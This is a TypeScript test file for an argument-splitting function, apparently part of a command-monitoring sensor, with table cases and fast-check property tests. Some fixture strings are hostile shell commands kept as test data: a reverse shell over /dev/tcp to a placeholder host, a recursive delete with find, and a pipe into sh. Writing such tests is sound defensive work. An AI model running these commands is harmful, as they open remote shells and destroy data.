/** Holds how arguments become words again, as far as the sensor's quoting allows. */
import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { splitArguments, wordCountMax } from "./split-arguments.ts";

const cases: readonly (readonly [string, readonly string[]])[] = [
  ["", []],
  ["-la /tmp", ["-la", "/tmp"]],
  ["-c  x", ["-c", "x"]],
  ['-c "id; uname -a"', ["-c", "id; uname -a"]],
  ['-c "echo "a b" | sh" x', ["-c", 'echo "a b" | sh', "x"]],
  ['-c "a b" "c d"', ["-c", "a b", "c d"]],
  ['-c " leading space"', ["-c", "leading space"]],
  ['-c "find / -name "*.gz" -delete"', ["-c", 'find / -name "*.gz" -delete']],
  ['-c "never closed', ["-c", '"never', "closed"]],
  ["-c \"bash -c 'bash -i >& /dev/tcp/h/1'\"", ["-c", "bash -c 'bash -i >& /dev/tcp/h/1'"]],
];

test("words are told apart by spaces, but within quotes", () => {
  for (const [text, words] of cases) assert.deepEqual(splitArguments(text), words, text);
});

test("law: words without spaces and quotes come back as they were", () => {
  const word = fc.string({ minLength: 1 }).filter((one) => !/[ "]/.test(one));
  fc.assert(
    fc.property(fc.array(word, { maxLength: 20 }), (words) => {
      assert.deepEqual(splitArguments(words.join(" ")), words);
    }),
  );
});

test("law: no text gives more words than the bound, nor more text than it has", () => {
  const noise = fc.array(fc.constantFrom('"', " ", "a", "=", "\n")).map((all) => all.join(""));
  fc.assert(
    fc.property(noise, (text) => {
      const words = splitArguments(text.repeat(40));
      assert.ok(words.length <= wordCountMax);
      assert.ok(words.join("").length <= text.length * 40);
    }),
  );
});
